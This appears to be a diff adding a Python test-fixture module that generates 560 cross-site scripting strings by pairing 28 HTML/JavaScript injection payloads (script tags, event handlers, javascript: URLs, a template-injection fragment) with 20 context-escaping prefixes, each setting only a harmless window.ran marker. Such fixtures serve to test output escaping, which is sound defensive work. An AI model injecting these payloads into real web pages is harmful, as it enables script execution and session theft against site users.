@@ -1,0 +1,58 @@
+"""Texts that would run if they left the place where text belongs: 28 attacks x 20 ways out."""
+
+from __future__ import annotations
+
+RUN = "window.ran=1"
+ATTACKS = [
+    f"<script>{RUN}</script>",
+    f"<SCRIPT >{RUN}</SCRIPT >",
+    f"<script src=data:,{RUN}></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror='{RUN}'>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}//",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<body onload={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{RUN}>",
+    f"<object data=javascript:{RUN}>",
+    f"<embed src=javascript:{RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>",
+    f"<style>@import'javascript:{RUN}';*{{x:expression({RUN})}}</style>",
+    f"<link rel=stylesheet href=javascript:{RUN}>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<base href=javascript:/><a href=1/;{RUN}>",
+    f"<form action=javascript:{RUN}><button autofocus>",
+    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
+    f"javascript:{RUN}",
+    f"{{{{ cycler.__init__.__globals__ }}}}{{% if 1 %}}<script>{RUN}</script>{{% endif %}}",
+    f"<x onpointerenter={RUN} onmouseover={RUN} style=position:fixed;inset:0>",
+]
+WAYS_OUT = [
+    "{}",
+    '"{}',
+    "'{}",
+    '">{}',
+    "'>{}",
+    "</title>{}",
+    "</textarea>{}",
+    "</script>{}",
+    "</style>{}",
+    "</option></select>{}",
+    "</mark></p>{}",
+    "--><!-- >{}",
+    "<![CDATA[{}",
+    "]]>{}",
+    '\\"{}',
+    "\u202e{}",
+    "\ufeff{}",
+    "\u2028{}",
+    "java {}",
+    "&lt;{}",
+]
+HOSTILE = [way.replace("{}", attack) for way in WAYS_OUT for attack in ATTACKS]
